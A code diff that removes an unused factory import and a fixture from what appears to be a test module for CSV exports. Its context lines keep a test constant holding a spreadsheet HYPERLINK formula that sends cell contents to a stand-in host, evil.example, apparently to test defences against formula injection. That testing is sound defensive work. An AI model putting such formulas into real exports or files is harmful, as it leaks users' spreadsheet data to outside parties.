@@ -18,7 +18,6 @@ from tests.factories import (
     make_campaign,
     make_issued_cards,
     make_message,
-    make_program,
 )
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Voir")'
@@ -53,11 +52,6 @@ def rows(response):
         b"".join(response.streaming_content) if response.streaming else response.content
     )
     return list(csv.DictReader(io.StringIO(content.decode())))
-
-
-@pytest.fixture
-def program():
-    return make_program()
 
 
 @pytest.fixture
